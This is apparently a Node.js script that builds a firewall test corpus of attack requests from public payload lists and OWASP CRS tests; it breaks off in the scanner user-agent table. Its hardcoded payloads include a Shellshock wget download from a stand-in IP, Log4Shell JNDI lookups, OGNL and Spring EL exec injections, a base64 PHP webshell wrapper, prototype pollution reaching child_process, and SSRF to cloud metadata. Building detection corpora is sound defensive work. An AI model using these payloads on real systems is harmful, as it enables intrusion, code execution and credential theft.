// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads such as ${jndi:…} are literal strings
// Builds test/corpus/attacks.jsonl and test/corpus/benign.jsonl from public test data and payload
// lists (read from local git snapshots of their repositories, at the commits pinned below) and from
// handwritten.mjs, and refreshes the source table of test/corpus/SOURCES.md. Deterministic: the same
// snapshots give byte-identical files. The corpus itself is committed; this script is only needed to
// rebuild it.
//
//   node test/corpus/build/generate.mjs [--mirror DIR]
//
// DIR holds one git directory per repository, as `<owner>+<name>/repo` (default /work/.mirror).
import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import YAML from 'yaml'
import { encodeCookie, encodePath, encodeValue, headerSafe, jsonEscaped, wireSafe } from './encode.mjs'
import * as hw from './handwritten.mjs'

const here = dirname(fileURLToPath(import.meta.url))
const corpusDir = join(here, '..')
const argv = process.argv.slice(2)
const mirror = argv.includes('--mirror') ? argv[argv.indexOf('--mirror') + 1] : '/work/.mirror'

const REPOS = {
  crs: {
    repo: 'coreruleset/coreruleset',
    commit: '2cbd1d019cb7c85319ba4d9102a382c9de7a8e53',
    licence: 'Apache-2.0',
  },
  patt: {
    repo: 'swisskyrepo/PayloadsAllTheThings',
    commit: 'f9fa51417886ac11476cb62db2dff21773dc570b',
    licence: 'MIT',
  },
  libinjection: {
    repo: 'client9/libinjection',
    commit: 'e86ff4019a4343579cc307d96d79272d5efcd1be',
    licence: 'BSD-3-Clause',
  },
  uap: {
    repo: 'ua-parser/uap-core',
    commit: 'e3c5e634bee0b14f1a129c991483910739ad9f6c',
    licence: 'Apache-2.0',
  },
  crawlers: {
    repo: 'monperrus/crawler-user-agents',
    commit: '7c7f9f254f16fcbc7d0fcb60d0a188897c00b050',
    licence: 'MIT',
  },
}
// The CRS data files listing scanner headers and URLs were removed in this commit; read from its parent.
const CRS_SCANNER_DATA_COMMIT = '160fb070dcdb8fb711e87461046ea65664ec88dc^'

function show(key, path, commit = REPOS[key].commit) {
  const gitDir = join(mirror, `${REPOS[key].repo.replace('/', '+')}`, 'repo')
  return execFileSync('git', ['-C', gitDir, 'show', `${commit}:${path}`], {
    encoding: 'utf8',
    maxBuffer: 64 << 20,
  })
}

/** Non-empty, non-comment lines of a list file. */
function lines(text) {
  return text
    .split('\n')
    .map((l) => l.replace(/\r$/, ''))
    .filter((l) => l.trim() !== '' && !l.startsWith('#'))
}

/** `n` items spread evenly over `list` (all of it when shorter), in order. */
function spread(list, n) {
  if (list.length <= n) return list
  const out = []
  for (let i = 0; i < n; i++) out.push(list[Math.floor((i * list.length) / n)])
  return out
}

function unique(list) {
  return [...new Set(list)]
}

// Provenance keys → where the data comes from; written into SOURCES.md.
const SOURCES = new Map()
function source(key, repo, path, licence, note = '') {
  if (!SOURCES.has(key)) SOURCES.set(key, { repo, path, licence, note })
  return key
}

const BROWSER_UA =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'
const BASE_HEADERS = { 'user-agent': BROWSER_UA, accept: '*/*' }

// ---------------------------------------------------------------------------------------------
// Attacks: payload strings placed into requests.

const attacks = []
const counters = {}

function push(list, category, entry) {
  counters[category] = (counters[category] ?? 0) + 1
  list.push({ id: `${category}-${String(counters[category]).padStart(4, '0')}`, category, ...entry })
}

function request({ method = 'GET', path, headers = {}, body = null, contentType = null }) {
  return { method, path, headers: { ...BASE_HEADERS, ...headers }, body, contentType }
}

/**
 * A request carrying `payload` in `field`, encoded with `mode`. `param` names the query/form/JSON
 * key or cookie; `route` is the path the request goes to.
 */
function place(payload, field, mode, { param = 'q', route = '/search' } = {}) {
  switch (field) {
    case 'query':
      return request({ path: `${route}?${param}=${encodeValue(payload, mode)}` })
    case 'query_key':
      return request({
        path: `${route}?${encodeValue(payload, mode).replace(/[=&]/g, (c) => (c === '=' ? '%3D' : '%26'))}=1`,
      })
    case 'path':
      return request({ path: `${route.replace(/\/$/, '')}/${encodePath(payload, mode)}` })
    case 'body':
      if (mode === 'json' || mode === 'json-u') {
        const doc = { [param]: payload }
        return request({
          method: 'POST',
          path: route,
          body: mode === 'json' ? JSON.stringify(doc) : jsonEscaped(doc),
          contentType: 'application/json',
        })
      }
      return request({
        method: 'POST',
        path: route,
        body: `${param}=${encodeValue(payload, mode)}`,
        contentType: 'application/x-www-form-urlencoded',
      })
    case 'body_key':
      if (mode === 'json' || mode === 'json-u') {
        const doc = { [payload]: '1' }
        return request({
          method: 'POST',
          path: route,
          body: mode === 'json' ? JSON.stringify(doc) : jsonEscaped(doc),
          contentType: 'application/json',
        })
      }
      return request({
        method: 'POST',
        path: route,
        body: `${encodeValue(payload, mode).replace(/=/g, '%3D')}=1`,
        contentType: 'application/x-www-form-urlencoded',
      })
    case 'cookie':
      return request({
        path: route,
        headers: { cookie: `session=7f3a9c1e; ${param}=${encodeCookie(payload, mode)}` },
      })
    case 'header:user-agent':
      return request({
        path: route,
        headers: { 'user-agent': mode === 'raw' ? payload : encodeValue(payload, mode) },
      })
    case 'header:referer':
      return request({
        path: route,
        headers: {
          referer:
            mode === 'raw'
              ? `https://www.example.org/${payload}`
              : `https://www.example.org/?q=${encodeValue(payload, mode)}`,
        },
      })
    case 'header:x-forwarded-for':
      return request({ path: route, headers: { 'x-forwarded-for': payload } })
    default:
      if (field.startsWith('header:')) return request({ path: route, headers: { [field.slice(7)]: payload } })
      throw new Error(`unknown field ${field}`)
  }
}

/** Whether a payload can sit in a header as it is (Node's client refuses CR, LF, NUL). */
function headerable(payload) {
  return /^[\t\x20-\x7e]*$/.test(payload)
}

const MODES_BY_FIELD = {
  body: ['json', 'plus', 'json-u', 'plain'],
  body_key: ['json', 'plain'],
  'header:user-agent': ['raw'],
  'header:referer': ['raw', 'pct'],
  'header:x-forwarded-for': ['raw'],
}

/**
 * One entry per payload, rotating over `fields` and, per field, over the encodings: `modes` for the
 * URL-ish fields (query, query key, path, cookie), MODES_BY_FIELD for bodies and headers. A payload
 * a header cannot carry goes into the query instead.
 */
function addPayloads(
  category,
  payloads,
  src,
  { fields, modes = ['plain', 'pct'], param, route, asis = false },
) {
  payloads.forEach((payload, i) => {
    let field = fields[i % fields.length]
    if ((field.startsWith('header:') || field === 'cookie') && !headerable(payload)) field = 'query'
    const round = Math.floor(i / fields.length)
    const fieldModes =
      MODES_BY_FIELD[field] ?? (asis && field !== 'cookie' ? ['asis'] : asis ? ['plain'] : modes)
    let mode = fieldModes[round % fieldModes.length]
    if (field.startsWith('header:') && field !== 'header:referer') mode = 'raw'
    const req = place(payload, field, mode, { param, route })
    push(attacks, category, { field, ...req, encoding: mode, source: src })
  })
}

// --- OWASP CRS regression tests ----------------------------------------------------------------

const crsDirs = new Map()
for (const path of execFileSync(
  'git',
  [
    '-C',
    join(mirror, 'coreruleset+coreruleset/repo'),
    'ls-tree',
    '-r',
    '--name-only',
    REPOS.crs.commit,
    'tests/regression/tests/',
  ],
  { encoding: 'utf8' },
)
  .split('\n')
  .filter((p) => p.endsWith('.yaml')))
  crsDirs.set(path.split('/').pop().replace('.yaml', ''), path)

const ORDINARY_HEADERS =
  /^(host|accept|accept-encoding|accept-language|accept-charset|content-length|connection|keep-alive|proxy-connection|cache-control|pragma|x-ftw|te|dnt|upgrade-insecure-requests)$/i

/**
 * The positive tests (those that expect the rule to match) of one CRS rule, as corpus requests:
 * the method, target, extra headers and body exactly as the test sends them. Tests with a raw or
 * base64 request, a body type other than form or JSON, or a header value Node's client refuses are
 * left out. `field` says where the payload is: the first unusual header, else the body, else the
 * query, else the path.
 */
function crsTests(rule) {
  const path = crsDirs.get(rule)
  if (!path) throw new Error(`no CRS test file for ${rule}`)
  const doc = YAML.parse(show('crs', path))
  const key = source(`crs-${rule}`, REPOS.crs.repo, path, REPOS.crs.licence)
  const out = []
  for (const test of doc.tests) {
    for (const stage of test.stages) {
      const input = stage.input ?? {}
      if (!stage.output?.log?.expect_ids) continue
      if (input.encoded_request || input.raw_request || input.uri === undefined) continue
      const headers = {}
      let contentType = null
      let field = null
      for (const [name, value] of Object.entries(input.headers ?? {})) {
        const lower = name.toLowerCase()
        const v = String(value)
        if (lower === 'content-type') {
          contentType = v
          continue
        }
        if (lower === 'user-agent' && v === 'OWASP CRS test agent') continue
        if (ORDINARY_HEADERS.test(lower)) {
          if (!/^(host|content-length|connection|x-ftw)$/.test(lower)) headers[lower] = v
          continue
        }
        headers[lower] = v
        field ??= lower === 'cookie' ? 'cookie' : `header:${lower}`
      }
      if (Object.values(headers).some((v) => !headerable(v))) continue
      const body = input.data === undefined || input.data === null ? null : String(input.data)
      if (body !== null) {
        contentType ??= 'application/x-www-form-urlencoded'
        if (!/^application\/(json|x-www-form-urlencoded)/.test(contentType)) continue
        contentType = contentType.startsWith('application/json')
          ? 'application/json'
          : 'application/x-www-form-urlencoded'
      } else contentType = null
      const target = wireSafe(String(input.uri))
      field ??= body !== null ? 'body' : target.includes('?') ? 'query' : 'path'
      out.push({
        field,
        method: input.method ?? (body === null ? 'GET' : 'POST'),
        path: target,
        headers: { ...BASE_HEADERS, ...headers },
        body,
        contentType,
        encoding: 'asis',
        source: key,
      })
    }
  }
  return out
}

function addCrs(category, rules, perRule) {
  for (const rule of rules)
    for (const entry of spread(crsTests(rule), perRule)) push(attacks, category, { ...entry, category })
}

function crsData(name, commit = REPOS.crs.commit) {
  return lines(show('crs', `rules/${name}`, commit))
}

// --- PayloadsAllTheThings and libinjection lists -----------------------------------------------

function patt(path) {
  const key = source(
    `patt-${path
      .split('/')
      .pop()
      .replace(/\.(txt|fuzz)$/, '')
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '-')}`,
    REPOS.patt.repo,
    path,
    REPOS.patt.licence,
  )
  return { key, list: lines(show('patt', path)) }
}

function libinjection(file) {
  const key = source(
    `libinjection-${file.replace(/\.txt$/, '')}`,
    REPOS.libinjection.repo,
    `data/${file}`,
    REPOS.libinjection.licence,
  )
  return { key, list: lines(show('libinjection', `data/${file}`)) }
}

const INJECTION_FIELDS = [
  'query',
  'body',
  'cookie',
  'query_key',
  'header:user-agent',
  'body',
  'header:referer',
  'path',
  'query',
  'body_key',
]

// SQL injection
{
  const auth = patt('SQL Injection/Intruder/Auth_Bypass.txt')
  addPayloads('sqli', spread(auth.list, 16), auth.key, {
    fields: INJECTION_FIELDS,
    modes: ['plain', 'pct', 'double', 'plus', 'case'],
    param: 'username',
    route: '/login',
  })
  const union = patt('SQL Injection/Intruder/Generic_UnionSelect.txt')
  addPayloads(
    'sqli',
    spread(
      union.list.map((l) => `1${l}`),
      8,
    ),
    union.key,
    {
      fields: ['query', 'body', 'path', 'cookie'],
      modes: ['plain', 'case', 'plus'],
      param: 'id',
      route: '/products',
    },
  )
  const time = patt('SQL Injection/Intruder/Generic_TimeBased.txt')
  addPayloads('sqli', spread(time.list, 10), time.key, {
    fields: ['query', 'header:user-agent', 'body', 'header:x-forwarded-for', 'cookie'],
    modes: ['plain', 'pct', 'double'],
    param: 'id',
    route: '/items',
  })
  for (const file of ['sqli-misc.txt', 'sqli-phpids.txt', 'sqli-hackers.txt']) {
    const li = libinjection(file)
    addPayloads('sqli', spread(li.list, 6), li.key, {
      fields: ['query', 'body', 'query'],
      asis: true,
      param: 'id',
      route: '/item',
    })
  }
  addCrs(
    'sqli',
    ['942100', '942150', '942160', '942180', '942260', '942270', '942280', '942152', '942420'],
    3,
  )
}

// XSS
{
  const intr = patt('XSS Injection/Intruders/IntrudersXSS.txt')
  addPayloads('xss', spread(intr.list, 24), intr.key, {
    fields: INJECTION_FIELDS,
    modes: ['plain', 'pct', 'html', 'double', 'case', 'plus'],
    param: 'comment',
    route: '/guestbook',
  })
  const poly = patt('XSS Injection/Intruders/XSS_Polyglots.txt')
  addPayloads('xss', spread(poly.list, 5), poly.key, {
    fields: ['query', 'body', 'header:referer'],
    param: 'name',
    route: '/profile',
  })
  for (const file of ['xss-owasp-cheatsheet-20131120.txt', 'xss-smoke-test.txt']) {
    const li = libinjection(file)
    addPayloads('xss', spread(li.list, 8), li.key, {
      fields: ['query', 'body', 'cookie', 'query', 'header:user-agent'],
      modes: ['plain', 'pct', 'html', 'case'],
      param: 'q',
      route: '/search',
    })
  }
  addCrs(
    'xss',
    ['941100', '941110', '941130', '941160', '941180', '941210', '941370', '941380', '941390', '941400'],
    3,
  )
}

// Path traversal and local file inclusion
{
  const dt = patt('Directory Traversal/Intruder/directory_traversal.txt')
  addPayloads('path_traversal', spread(dt.list, 24), dt.key, {
    fields: ['query', 'path', 'body', 'cookie', 'query', 'header:referer', 'body'],
    asis: true,
    param: 'file',
    route: '/download',
  })
  const exotic = patt('Directory Traversal/Intruder/traversals-8-deep-exotic-encoding.txt')
  addPayloads(
    'path_traversal',
    spread(exotic.list, 14).map((l, i) => l.replace('{FILE}', i % 2 ? 'windows/win.ini' : 'etc/passwd')),
    exotic.key,
    { fields: ['path', 'query'], asis: true, param: 'page', route: '/static' },
  )
  const lfi = patt('File Inclusion/Intruders/JHADDIX_LFI.txt')
  addPayloads(
    'path_traversal',
    spread(
      lfi.list.filter((l) => !/\s/.test(l)),
      12,
    ),
    lfi.key,
    { fields: ['query', 'body', 'query', 'path'], asis: true, param: 'page', route: '/index.php' },
  )
  addPayloads(
    'path_traversal',
    [
      'php://filter/convert.base64-encode/resource=index.php',
      'php://filter/read=string.rot13/resource=config.php',
      'file:///etc/passwd',
      'expect://id',
      'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+',
      'zip://uploads/avatar.jpg%23shell.php',
      'phar://uploads/avatar.jpg/shell.php',
      '/proc/self/environ',
    ],
    source(
      'patt-file-inclusion-readme',
      REPOS.patt.repo,
      'File Inclusion/README.md (wrappers)',
      REPOS.patt.licence,
    ),
    {
      fields: ['query', 'body', 'query', 'cookie'],
      modes: ['plain', 'pct'],
      param: 'page',
      route: '/index.php',
    },
  )
  addCrs('path_traversal', ['930100', '930110', '930120', '930121', '930130'], 3)
}

// Command injection (and Node.js code injection)
{
  const unix = patt('Command Injection/Intruder/command-execution-unix.txt')
  addPayloads('command_injection', spread(unix.list, 20), unix.key, {
    fields: INJECTION_FIELDS,
    modes: ['plain', 'pct', 'plus', 'double'],
    param: 'host',
    route: '/tools/ping',
  })
  const exec = patt('Command Injection/Intruder/command_exec.txt')
  addPayloads('command_injection', spread(exec.list, 14), exec.key, {
    fields: ['query', 'body', 'header:user-agent', 'cookie', 'body_key', 'query'],
    modes: ['plain', 'pct'],
    param: 'ip',
    route: '/diag',
  })
  addPayloads(
    'command_injection',
    [
      '() { :; }; /bin/bash -c "cat /etc/passwd"',
      '() { :;}; echo; /bin/bash -c "id"',
      '() { ignored; }; /usr/bin/wget http://198.51.100.7/x.sh -O /tmp/x.sh',
    ],
    source(
      'shellshock-cve-2014-6271',
      'coreruleset/coreruleset',
      'tests/regression/tests/REQUEST-932-APPLICATION-ATTACK-RCE/932170.yaml, 932171.yaml (the `() {` prefix of CVE-2014-6271)',
      REPOS.crs.licence,
    ),
    { fields: ['header:user-agent', 'header:referer', 'cookie'], param: 'x', route: '/cgi-bin/status' },
  )
  addCrs(
    'command_injection',
    ['932130', '932160', '932171', '932230', '932236', '932390', '934100', '934101'],
    3,
  )
}

// Log4Shell (JNDI lookups)
{
  const key = source('patt-log4shell', REPOS.patt.repo, 'CVE Exploits/Log4Shell.md', REPOS.patt.licence)
  const md = show('patt', 'CVE Exploits/Log4Shell.md')
  const payloads = unique(md.match(/\$\{[^`\s]*\}/g) ?? [])
    .filter((p) => /j|\$\{\$\{/i.test(p))
    .map((p) => p.replace('[ATTACKER.DOMAIN.TLD]', 'c8x1.oast.example').replace('10.10.10.10', '203.0.113.9'))
  const extra = [
    '${jndi:ldap://203.0.113.9:1389/Exploit}',
    '${jndi:rmi://203.0.113.9:1099/obj}',
    '${jndi:dns://c8x1.oast.example/a}',
    '${jndi:ldaps://c8x1.oast.example/a}',
    '${jndi:iiop://203.0.113.9/a}',
    '${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://c8x1.oast.example/a}',
    '${${upper:j}ndi:ldap://c8x1.oast.example/a}',
    '${${::-j}ndi:ldap://c8x1.oast.example/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://c8x1.oast.example/a}",
  ]
  const lookups = source(
    'log4j-lookups',
    'Apache Log4j 2 manual',
    'Lookups (jndi, lower, upper, date; `${name:-default}`) and JNDI lookup schemes; composed for this corpus',
    'Apache-2.0',
  )
  const jndiOptions = {
    fields: [
      'header:user-agent',
      'query',
      'header:x-api-version',
      'header:referer',
      'cookie',
      'body',
      'header:x-forwarded-for',
      'query_key',
      'body',
      'path',
      'header:authorization',
    ],
    modes: ['plain', 'pct', 'double'],
    param: 'search',
    route: '/api/search',
  }
  addPayloads('jndi', payloads, key, jndiOptions)
  addPayloads('jndi', extra, lookups, {
    ...jndiOptions,
    fields: [...jndiOptions.fields.slice(3), ...jndiOptions.fields.slice(0, 3)],
  })
  // Encoded forms in a query value, as mass scanners sent them.
  addPayloads('jndi', spread(payloads, 12), key, {
    fields: ['query'],
    modes: ['pct', 'double', 'plus', 'plain'],
    param: 'x',
    route: '/',
  })
  addCrs('jndi', ['944150', '944151', '944152', '932131'], 3)
}

// Server-side template injection and expression language
{
  const ssti = patt('Server Side Template Injection/Intruder/ssti.fuzz')
  addPayloads(
    'template_injection',
    spread(
      ssti.list.filter((l) => l.length < 400),
      32,
    ),
    ssti.key,
    {
      fields: ['query', 'body', 'body', 'cookie', 'header:user-agent', 'query_key', 'header:referer', 'path'],
      modes: ['plain', 'pct', 'double', 'plus'],
      param: 'name',
      route: '/greeting',
    },
  )
  addPayloads(
    'template_injection',
    [
      "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
      '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '#{7*7}',
      '*{T(java.lang.Runtime).getRuntime().exec("id")}',
      "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
    ],
    source(
      'patt-ssti-java',
      REPOS.patt.repo,
      'Server Side Template Injection/Java.md (Spring EL, OGNL / Struts2 CVE-2017-5638 Content-Type)',
      REPOS.patt.licence,
    ),
    {
      fields: ['header:content-type', 'query', 'body', 'query', 'header:user-agent', 'body'],
      param: 'redirect',
      route: '/index.action',
    },
  )
  addCrs('template_injection', ['934180', '934200'], 4)
}

// Prototype pollution
{
  const key = source(
    'patt-prototype-pollution',
    REPOS.patt.repo,
    'Prototype Pollution/README.md',
    REPOS.patt.licence,
  )
  const q = (path) =>
    push(attacks, 'prototype_pollution', {
      field: 'query_key',
      ...request({ path }),
      encoding: 'plain',
      source: key,
    })
  const qs = [
    '/?__proto__[isAdmin]=true',
    '/?__proto__.isAdmin=true',
    '/?__proto__[test]=test',
    '/api/users?constructor[prototype][isAdmin]=true',
    '/api/users?constructor.prototype.isAdmin=true',
    '/search?a[__proto__][admin]=1',
    '/search?a[constructor][prototype][admin]=1',
    '/shop/buy?__proto__[src]=image&__proto__[onerror]=alert(1)',
    '/shop/buy?a[constructor][prototype]=image&a[constructor][prototype][onerror]=alert(1)',
    '/signup?__proto__.preventDefault.__proto__.handleObj.__proto__.delegateTarget=%3Cimg/src/onerror=alert(1)%3E',
    '/?x[__proto__][abaeead]=abaeead',
    '/?x.__proto__.edcbcab=edcbcab',
    '/?__proto__[eedffcb]=eedffcb',
    '/?__proto__.baaebfc=baaebfc',
    '/?%5F%5Fproto%5F%5F%5BisAdmin%5D=true',
    '/?__pro__proto__to__[isAdmin]=true',
    '/?__proto__%5Bpolluted%5D=yes',
    '/api/items?filter[__proto__][status]=510',
  ]
  for (const p of qs) q(p)
  // JSON text, not object literals: a literal's `__proto__:` sets the prototype and never serialises.
  const bodies = [
    '{"user":"alice","__proto__":{"isAdmin":true}}',
    '{"__proto__":{"parameterLimit":1}}',
    '{"__proto__":{"ignoreQueryPrefix":true}}',
    '{"__proto__":{"allowDots":true}}',
    '{"__proto__":{"json spaces":" "}}',
    '{"__proto__":{"exposedHeaders":["foo"]}}',
    '{"__proto__":{"status":510}}',
    '{"__proto__": {"evilProperty": "evilPayload"}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"a":{"constructor":{"prototype":{"polluted":"yes"}}}}',
    '{"__proto__.name":"test"}',
    '{"text":"a","title":{"__proto__":{"where":{"name":"sqlinjection","where":null}}}}',
    '{"theme":"dark","__proto__":{"shell":"/proc/self/exe","argv0":"console.log(1)//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
    '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
    '{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\\"child_process\\").exec(\\"id\\")"}}',
  ]
  for (const body of bodies) {
    JSON.parse(body)
    push(attacks, 'prototype_pollution', {
      field: 'body_key',
      ...request({ method: 'POST', path: '/api/profile', body, contentType: 'application/json' }),
      encoding: 'json',
      source: key,
    })
  }
  const forms = [
    '__proto__[isAdmin]=true',
    '__proto__.isAdmin=true',
    'constructor[prototype][isAdmin]=true',
    'user[__proto__][role]=admin',
    'name=alice&__proto__[admin]=1',
    '__proto__%5BisAdmin%5D=true',
  ]
  for (const body of forms)
    push(attacks, 'prototype_pollution', {
      field: 'body_key',
      ...request({
        method: 'POST',
        path: '/settings',
        body,
        contentType: 'application/x-www-form-urlencoded',
      }),
      encoding: 'plain',
      source: key,
    })
  push(attacks, 'prototype_pollution', {
    field: 'cookie',
    ...request({
      path: '/',
      headers: { cookie: 'prefs=j%3A%7B%22__proto__%22%3A%7B%22isAdmin%22%3Atrue%7D%7D' },
    }),
    encoding: 'pct',
    source: key,
  })
  addCrs('prototype_pollution', ['934130'], 6)
}

// NoSQL injection
{
  const key = source('patt-nosql-readme', REPOS.patt.repo, 'NoSQL Injection/README.md', REPOS.patt.licence)
  const queryForms = [
    'username[$ne]=toto&password[$ne]=toto',
    'login[$regex]=a.*&pass[$ne]=lol',
    'login[$gt]=admin&login[$lt]=test&pass[$ne]=1',
    'login[$nin][]=admin&login[$nin][]=test&pass[$ne]=toto',
    'username[$ne]=toto&password[$regex]=.{1}',
    'username[$ne]=toto&password[$regex]=m.{2}',
    'username[$ne]=toto&password[$regex]=md.*',
    'username[$exists]=true&password[$exists]=true',
    'user[$where]=sleep(5000)',
    'id[$gt]=',
  ]
  queryForms.forEach((qs, i) => {
    const enc = i % 3 === 2 ? qs.replace(/\[/g, '%5B').replace(/\]/g, '%5D').replace(/\$/g, '%24') : qs
    if (i % 2 === 0)
      push(attacks, 'nosql_injection', {
        field: 'query_key',
        ...request({ path: `/api/login?${wireSafe(enc)}` }),
        encoding: i % 3 === 2 ? 'pct' : 'plain',
        source: key,
      })
    else
      push(attacks, 'nosql_injection', {
        field: 'body_key',
        ...request({
          method: 'POST',
          path: '/login',
          body: wireSafe(enc),
          contentType: 'application/x-www-form-urlencoded',
        }),
        encoding: i % 3 === 2 ? 'pct' : 'plain',
        source: key,
      })
  })
  const jsonBodies = [
    '{"username": {"$ne": null}, "password": {"$ne": null}}',
    '{"username": {"$ne": "foo"}, "password": {"$ne": "bar"}}',
    '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
    '{"username": {"$eq": "admin"}, "password": {"$regex": "^m" }}',
    '{"username": {"$in": ["Admin", "4dm1n", "admin", "root", "administrator"]}, "password": {"$gt": ""}}',
    '{"username": "admin", "password": {"$regex": ".*"}}',
    '{"$where": "this.password.length > 0"}',
    '{"username": {"$where": "sleep(5000) || true"}}',
    '{"filter": {"$or": [{}, {"a": "a"}]}}',
    '{"email": {"$exists": true}, "isAdmin": {"$ne": false}}',
    '{"id": {"$nin": []}}',
    '{"query": {"price": {"$gt": 0}, "$comment": "successful MongoDB injection"}}',
  ]
  for (const body of jsonBodies)
    push(attacks, 'nosql_injection', {
      field: 'body',
      ...request({ method: 'POST', path: '/api/login', body, contentType: 'application/json' }),
      encoding: 'json',
      source: key,
    })
  const intr = patt('NoSQL Injection/Intruder/NoSQL.txt')
  addPayloads('nosql_injection', intr.list, intr.key, {
    fields: ['query', 'body', 'cookie', 'query', 'header:referer'],
    modes: ['plain', 'pct'],
    param: 'user',
    route: '/api/users',
  })
  addCrs('nosql_injection', ['942290'], 6)
}

// SSRF
{
  const key = source('crs-data-ssrf', REPOS.crs.repo, 'rules/ssrf.data', REPOS.crs.licence)
  const urls = crsData('ssrf.data').filter((u) => /^[a-z]+:/.test(u))
  addPayloads('ssrf', spread(urls, 26), key, {
    fields: ['query', 'body', 'query', 'body', 'header:referer', 'cookie', 'query_key'],
    modes: ['plain', 'pct'],
    param: 'url',
    route: '/api/fetch',
  })
  const readme = source(
    'patt-ssrf-readme',
    REPOS.patt.repo,
    'Server Side Request Forgery/README.md',
    REPOS.patt.licence,
  )
  addPayloads(
    'ssrf',
    [
      'http://127.0.0.1:6379/',
      'http://localhost:22',
      'http://[::]:80/',
      'http://0177.0.0.1/',
      'http://0x7f000001',
      'http://127.1',
      'http://127.0.0.1/%61dmin',
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'file:///etc/passwd',
      'gopher://localhost:25/_MAIL%20FROM:<attacker@example.com>%0D%0A',
      'dict://127.0.0.1:11211/stats',
      'ftp://127.0.0.1!/',
      'http://127.1.1.1:80\\@127.2.2.2:80/',
      'http://ip6-localhost',
      'netdoc:///etc/passwd',
      'jar:http://127.0.0.1!/',
    ],
    readme,
    {
      fields: ['query', 'body', 'query', 'body_key'],
      modes: ['plain', 'pct', 'double'],
      param: 'callback',
      route: '/webhooks/test',
    },
  )
  addCrs('ssrf', ['934110', '934120', '934190'], 4)
}

// Attack tools: scanner and exploitation-tool user agents and header fingerprints
{
  const ua = (value, src, route = '/') =>
    push(attacks, 'attack_tool', {
      field: 'header:user-agent',
      ...request({ path: route, headers: { 'user-agent': value } }),
      encoding: 'raw',
      source: src,
    })
  const tools = [
    [
      'sqlmap/1.10.8#stable (https://sqlmap.org)',
      'sqlmapproject/sqlmap',
      'lib/core/settings.py (DEFAULT_USER_AGENT)',
      'GPL-2.0',
      'tool-sqlmap',
    ],
    [
      'sqlmap/1.7.2#stable (https://sqlmap.org)',
      'sqlmapproject/sqlmap',
      'lib/core/settings.py (DEFAULT_USER_AGENT)',
      'GPL-2.0',
      'tool-sqlmap',
    ],
    [
      'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
      'sullo/nikto',
      'program/nikto.conf.default (USERAGENT example, the default of Nikto 2.1)',
      'GPL-2.0',
      'tool-nikto',
    ],
    [
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'nmap/nmap',
      'nselib/http.lua (USER_AGENT)',
      'NPSL',
      'tool-nmap',
    ],
    [
      'Fuzz Faster U Fool v2.1.0-dev',
      'ffuf/ffuf',
      'pkg/runner/simple.go (default User-Agent)',
      'MIT',
      'tool-ffuf',
    ],
    [
      'Fuzz Faster U Fool v2.0.0',
      'ffuf/ffuf',
      'pkg/runner/simple.go (default User-Agent)',
      'MIT',
      'tool-ffuf',
    ],
    [
      'gobuster/3.6',
      'OJ/gobuster',
      'libgobuster/helpers.go (DefaultUserAgent)',
      'Apache-2.0',
      'tool-gobuster',
    ],
    [
      'gobuster/3.1.0',
      'OJ/gobuster',
      'libgobuster/helpers.go (DefaultUserAgent)',
      'Apache-2.0',
      'tool-gobuster',
    ],
    [
      'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
      'wpscanteam/wpscan',
      'lib/wpscan/browser.rb (default_user_agent)',
      'WPScan Public Source License',
      'tool-wpscan',
    ],
    [
      'ivre-masscan/1.3 https://github.com/robertdavidgraham/',
      'robertdavidgraham/masscan',
      'src/proto-http.c (http_hello)',
      'AGPL-3.0',
      'tool-masscan',
    ],
    [
      'Mozilla/5.0 zgrab/0.x',
      'zmap/zgrab2',
      'modules/http/scanner.go (--user-agent default)',
      'Apache-2.0',
      'tool-zgrab2',
    ],
  ]
  for (const [value, repo, path, licence, k] of tools) ua(value, source(k, repo, path, licence))
  const crs913 = crsTests('913100').filter(
    (e) => e.field === 'header:user-agent' && !/yum|ecairn/i.test(e.headers['user-agent']),
  )
  for (const e of crs913) push(attacks, 'attack_tool', e)
  // Tool names from CRS's list, in the shape those tools announce themselves.
  const fragments = source(
    'crs-data-scanners-user-agents',
    REPOS.crs.repo,
    'rules/scanners-user-agents.data (the tool names; the full strings around each name are composed for this corpus)',
    REPOS.crs.licence,
  )
  const named = {
    arachni: 'Arachni/v1.5.1',
    commix: 'commix/v3.9 (https://commixproject.com)',
    dirbuster: 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    'fuzz faster': 'Fuzz Faster U Fool v1.5.0',
    havij: 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij',
    nessus: 'Mozilla/4.0 (compatible; Nessus NASL)',
    netsparker:
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.0 Safari/537.36 Netsparker',
    nuclei: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
